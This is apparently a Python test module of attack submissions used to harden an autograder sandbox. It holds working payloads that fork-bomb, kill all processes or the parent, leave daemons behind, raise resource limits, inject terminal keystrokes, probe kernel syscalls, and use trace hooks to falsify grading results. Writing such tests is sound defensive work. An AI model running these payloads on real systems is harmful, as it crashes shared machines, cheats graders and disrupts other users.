"""Attacks with processes, signals, threads and time: to outlive, to stop, to hang the grader."""

from __future__ import annotations

from attackers.attack import attack, code, in_every_answer, in_one_answer

TOKENIZE = code("""
    import unicodedata

    def tokenize(review):
        if review is None:
            return []
        text = unicodedata.normalize("NFC", review).replace("\\u2019", "'").lower()
        padded = f" {text} "
        kept = []
        for before, character, after in zip(padded, padded[1:], padded[2:]):
            joins = character == "'" and before.isalpha() and after.isalpha()
            kept.append(character if character.isalpha() or joins else " ")
        return "".join(kept).split()
""")
"""A right answer: its marks stay, whatever the answers after it do."""


@attack(earns={"tokenize": 3})
def exit_by_sys_exit():
    """sys.exit in one answer, SystemExit(0) in another: an end without an error was taken for a pass
    (nbgrader #427). The answer before them keeps its marks."""
    return [
        TOKENIZE,
        code("""
        import sys

        def top_k_words(reviews, banned, k):
            sys.exit(0)

        def merge_top_k(shards, k):
            raise SystemExit(0)
        """),
    ]


@attack(earns={"tokenize": 3})
def exit_without_goodbye():
    """os._exit(0) ends the process with status 0 and no result: DeadKernelError and no grade at all
    in nbgrader (grading.md §3, a06)."""
    return [
        TOKENIZE,
        code("""
        import os, signal

        def top_k_words(reviews, banned, k):
            os._exit(0)

        def merge_top_k(shards, k):
            os.kill(os.getpid(), signal.SIGKILL)
        """),
    ]


@attack()
def exit_on_import():
    """End the process while the cells are read in, before the worker has said anything; and once
    more each time it is started again."""
    return [
        code("""
        import os
        _ = os._exit(0)
        """),
        in_every_answer("loot = 'never'"),
    ]


@attack(earns={"tokenize": 3})
def exceptions_nobody_catches():
    """KeyboardInterrupt, GeneratorExit and an own subclass of BaseException pass every `except
    Exception` on the way, also in the machinery; the limit's own exception claims a timeout."""
    return [
        TOKENIZE,
        code("""
        class Quiet(BaseException):
            def __str__(self):
                raise Quiet

        def top_k_words(reviews, banned, k):
            raise [KeyboardInterrupt, GeneratorExit, Quiet, StopIteration][len(reviews) % 4]

        def merge_top_k(shards, k):
            from grader.sandbox.limits import TimeLimitReached
            raise TimeLimitReached
        """),
    ]


@attack(earns={"tokenize": 3})
def loop_deaf_to_signals():
    """An endless loop that catches BaseException, ignores and blocks every signal and resets the
    timers: 40 s in nbgrader, for ever in otter (grading.md §3, a07; otter #469)."""
    return [
        TOKENIZE,
        code("""
        import signal

        def top_k_words(reviews, banned, k):
            for number in range(1, 65):
                try:
                    signal.signal(number, signal.SIG_IGN)
                except (OSError, ValueError):
                    pass
            signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
            while True:
                try:
                    for timer in (0, 1, 2):
                        signal.setitimer(timer, 0)
                    while True:
                        pass
                except BaseException:
                    continue

        def merge_top_k(shards, k):
            return "no loop here"
        """),
    ]


@attack(earns={"tokenize": 3}, slow=True)
def loop_inside_c():
    """One operation that never comes back to the interpreter: no signal handler runs before it ends,
    so a limit inside the process cannot end it."""
    return [
        TOKENIZE,
        code("""
        import itertools, re

        def top_k_words(reviews, banned, k):
            return sum(itertools.repeat(0))

        def merge_top_k(shards, k):
            return re.match(r"(a|a|b)*c", "a" * 100)
        """),
    ]


@attack()
def sleep_for_ever():
    """Sleeping uses no CPU time, so a limit on that never ends it; signals only wake it up."""
    return in_one_answer("""
        import signal, time
        signal.signal(signal.SIGALRM, signal.SIG_IGN)
        while True:
            try:
                time.sleep(3600)
            except BaseException:
                continue
    """)


@attack(slow=True)
def loop_on_import():
    """Loop while the cells are read in, before any case and its clock has begun; and again every time
    the worker is started again: a case's limit times the number of cases is hours."""
    return [
        code("""
        if True:
            while True:
                try:
                    while True:
                        pass
                except BaseException:
                    pass
        """),
        in_one_answer("loot = 'never'"),
    ]


@attack(slow=True)
def slow_on_every_case():
    """Stay just below the limit on every case. Fifty cases, each run again while a counterexample is
    made smaller, is minutes for one learner; the class must not wait that long."""
    return in_one_answer("""
        import time
        end = time.process_time() + 1.8
        while time.process_time() < end:
            pass
    """)


@attack(earns={"tokenize": 3}, slow=True)
def threads_go_on():
    """Threads that go on after the answer has returned: they slow the next case, change its inputs,
    and keep an interpreter from ending (field.md §1d)."""
    return [
        TOKENIZE,
        code("""
        import gc, threading

        def burn():
            while True:
                for thing in gc.get_objects():
                    if type(thing) is dict and "shards" in thing:
                        thing["shards"] = []

        def top_k_words(reviews, banned, k):
            for _ in range(8):
                try:
                    threading.Thread(target=burn, daemon=False).start()
                except RuntimeError:
                    pass
            return "threads are running"

        def merge_top_k(shards, k):
            return "they still are"
        """),
    ]


@attack(slow=True)
def code_at_exit():
    """atexit, __del__, threading's and multiprocessing's own exit functions, weak references: code
    that runs after the answers, when the limits of the last case are off."""
    return in_one_answer("""
        import atexit, threading, weakref

        def burn(*_):
            while True:
                pass

        class Clinging:
            def __del__(self):
                burn()

        atexit.register(burn)
        threading._register_atexit(burn)
        globals()["kept"] = Clinging()
        weakref.finalize(globals()["kept"], burn)
    """)


@attack()
def audit_hook_that_refuses():
    """An audit hook cannot be taken away: one that raises (or loops) on every open, import, compile
    and object creation poisons whatever the process does afterwards, the next learner's job too."""
    return in_every_answer("""
        import sys

        def refuse(event, args):
            if event not in ("object.__getattr__", "sys._getframe"):
                raise RuntimeError(f"not allowed: {event}")

        sys.addaudithook(refuse)
        loot = open("/etc/hostname").read()
    """)


@attack()
def tracer_on_the_machinery():
    """sys.settrace and setprofile see every frame of the machinery that runs in the same thread, and
    can change its local variables: set `outcome` and `value` to what one likes."""
    return in_every_answer("""
        import ctypes, sys, threading

        def trace(frame, event, argument):
            for name in ("outcome", "value", "failure", "seconds"):
                if name in frame.f_locals and "execute" in frame.f_code.co_filename:
                    frame.f_locals[name] = "correct"
                    ctypes.pythonapi.PyFrame_LocalsToFast(ctypes.py_object(frame), 0)
            return trace

        sys.settrace(trace)
        sys.setprofile(trace)
        threading.settrace(trace)
        frame = sys._getframe()
        while frame:
            frame.f_trace = trace
            frame = frame.f_back
    """)


@attack(earns={"tokenize": 3})
def stack_overflown():
    """A recursion without limit runs over the C stack: a segmentation fault that no except catches;
    DeadKernelError in nbgrader, no results in otter (grading.md §3, a13)."""
    return [
        TOKENIZE,
        code("""
        import sys

        class Deep:
            def __getattr__(self, name):
                return getattr(self, name + "x")

        def top_k_words(reviews, banned, k):
            sys.setrecursionlimit(2**31 - 1)
            return Deep().a

        def merge_top_k(shards, k):
            return merge_top_k(shards, k)
        """),
    ]


@attack(earns={"tokenize": 3})
def null_pointer():
    """ctypes reads address 0, and calls an address that is no function: the process dies at once,
    and no Python code can say so."""
    return [
        TOKENIZE,
        code("""
        import ctypes

        def top_k_words(reviews, banned, k):
            return ctypes.string_at(0)

        def merge_top_k(shards, k):
            return ctypes.CFUNCTYPE(ctypes.c_int)(0xDEAD)()
        """),
    ]


@attack(harmful=True)
def fork_bomb():
    """Processes that make processes, each in a session of its own: 300 were left running by nbgrader
    and by otter (grading.md §3, a08)."""
    return in_every_answer("""
        import os
        for _ in range(300):
            try:
                if os.fork() == 0:
                    os.setsid()
                    for _ in range(300):
                        try:
                            os.fork()
                        except OSError:
                            pass
                    while True:
                        pass
                loot = "forked"
            except OSError:
                break
    """)


@attack(harmful=True)
def daemon_left_behind():
    """One process that detaches itself in the classic way (fork, setsid, fork) and waits: it is still
    there when the marks are out (grading.md §3, a17; PDEATHSIG can be cleared: §4, 4)."""
    return in_every_answer("""
        import ctypes, os, time
        try:
            ctypes.CDLL(None).prctl(1, 0, 0, 0, 0)
            if os.fork() == 0:
                os.setsid()
                if os.fork() == 0:
                    os.closerange(0, 256)
                    while True:
                        time.sleep(60)
                os._exit(0)
            loot = "a daemon runs"
        except OSError:
            pass
    """)


@attack(harmful=True)
def vfork_and_clone_by_number():
    """Make processes past Python: clone, clone3, vfork and fork by their system call numbers, of
    x86-64, its x32 twins and the 32-bit ones."""
    return in_every_answer("""
        import ctypes, os, platform
        libc = ctypes.CDLL(None, use_errno=True)
        numbers = [56, 57, 435] if platform.machine() == "x86_64" else [220, 435]
        made = 0
        for number in [*numbers, *(number | 0x40000000 for number in numbers)]:
            arguments = (ctypes.c_uint64 * 11)(0, 0, 0, 0, 17)
            first = ctypes.byref(arguments) if number & 0xFFF == 435 else 17
            pid = libc.syscall(number, first, 88 if number & 0xFFF == 435 else 0, 0, 0, 0)
            if pid == 0:
                while True:
                    os.times()
            made += pid > 0
        loot = ["children", made]
    """)


@attack()
def other_programs_started():
    """A program of its own has none of the patched, limited or watched Python around it:
    subprocess, os.system, os.execv over the worker itself, posix_spawn, multiprocessing, pty."""
    return in_every_answer("""
        import multiprocessing, os, subprocess
        for start in (
            lambda: subprocess.Popen(["sleep", "600"], start_new_session=True),
            lambda: os.system("sleep 600 &"),
            lambda: os.posix_spawn("/bin/sleep", ["sleep", "600"], {}),
            lambda: multiprocessing.get_context("spawn").Process(target=print).start(),
            lambda: multiprocessing.get_context("forkserver").Process(target=print).start(),
            lambda: multiprocessing.Pool(2),
            lambda: os.execv("/bin/sh", ["sh", "-c", "sleep 600; echo correct"]),
        ):
            try:
                loot = [loot, str(start())]
            except BaseException:
                continue
    """)


@attack(harmful=True)
def everybody_killed():
    """kill(-1, SIGKILL) ends every process of the same user: as root, the whole machine."""
    return in_every_answer("""
        import os, signal
        for number in (signal.SIGTERM, signal.SIGKILL):
            try:
                os.kill(-1, number)
            except OSError:
                pass
        try:
            os.killpg(0, signal.SIGKILL)
        except OSError:
            pass
    """)


@attack(harmful=True)
def parent_killed():
    """Kill the parent: the whole class run was dead in nbgrader, and the attacker's half-written
    folder was skipped for good when it was started again (grading.md §3, a14; §4, 5)."""
    return in_every_answer("""
        import os, signal
        for pid in (os.getppid(), 1, 2, 3, *range(4, 200)):
            if pid not in (0, os.getpid()):
                for number in (signal.SIGTERM, signal.SIGKILL):
                    try:
                        os.kill(pid, number)
                    except OSError:
                        pass
    """)


@attack(harmful=True)
def parent_stopped():
    """A stopped parent is not dead, so nobody restarts it; it just never answers. By kill, by
    pidfd_send_signal, by a descriptor with F_SETOWN and F_SETSIG, by tgkill."""
    return in_every_answer("""
        import ctypes, fcntl, os, signal
        libc = ctypes.CDLL(None, use_errno=True)
        parent = os.getppid()
        for pid in {parent, 1} - {0, os.getpid()}:
            try:
                os.kill(pid, signal.SIGSTOP)
            except OSError:
                pass
            libc.syscall(234, pid, pid, signal.SIGSTOP)
            try:
                signal.pidfd_send_signal(os.pidfd_open(pid), signal.SIGSTOP)
            except OSError:
                pass
            try:
                here, there = os.pipe()
                fcntl.fcntl(here, fcntl.F_SETOWN, pid)
                fcntl.fcntl(here, 10, signal.SIGSTOP)
                fcntl.fcntl(here, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
                os.write(there, b"now")
            except OSError:
                pass
    """)


@attack()
def limits_raised():
    """What a process limits, it can unlimit: raise the rlimits again, its own and by prlimit the
    parent's lower; take the other core, the highest priority, real-time scheduling."""
    return in_every_answer("""
        import os, resource
        for name in [name for name in dir(resource) if name.startswith("RLIMIT_")]:
            kind = getattr(resource, name)
            for limits in ((-1, -1), (1 << 40, 1 << 40)):
                try:
                    resource.setrlimit(kind, limits)
                except (OSError, ValueError):
                    pass
            try:
                resource.prlimit(os.getppid(), kind, (1, 1))
                loot = "the parent is limited"
            except (OSError, ValueError):
                pass
        for change in (
            lambda: os.nice(-20),
            lambda: os.sched_setaffinity(0, range(os.cpu_count())),
            lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(99)),
            lambda: os.sched_setaffinity(os.getppid(), [0]),
            lambda: os.setpriority(os.PRIO_PROCESS, os.getppid(), 19),
        ):
            try:
                change()
            except OSError:
                pass
        end = 2**33
        try:
            loot = bytearray(end)[0]
        except MemoryError:
            pass
    """)


@attack()
def terminal_taken():
    """Push characters into the terminal of whoever grades, as if she had typed them (TIOCSTI), and
    take the terminal over."""
    return in_every_answer("""
        import fcntl, os
        for fd in (0, 1, 2, 3, 4, 5):
            for byte in b"touch typed\\n":
                try:
                    fcntl.ioctl(fd, 0x5412, bytes([byte]))
                    loot = "typed"
                except OSError:
                    pass
        for path in ("/dev/tty", "/dev/console", "/dev/pts/0"):
            try:
                os.write(os.open(path, os.O_RDWR), b"\\x1b]0;mine\\x07")
            except OSError:
                pass
    """)


@attack()
def kernel_doors():
    """System calls that an answer never needs and that have opened kernels before: bpf,
    userfaultfd, io_uring, perf_event_open, keyctl, kexec, init_module, open_by_handle_at."""
    return in_every_answer("""
        import ctypes, platform
        libc = ctypes.CDLL(None, use_errno=True)
        numbers = [321, 323, 425, 298, 248, 250, 246, 175, 313, 304, 272, 435]
        buffer = ctypes.create_string_buffer(256)
        opened = []
        if platform.machine() == "x86_64":
            for number in numbers[:-1]:
                result = libc.syscall(number, 0, buffer, 128, 0, 0)
                if result > 0:
                    opened.append([number, result])
        loot = opened
    """)
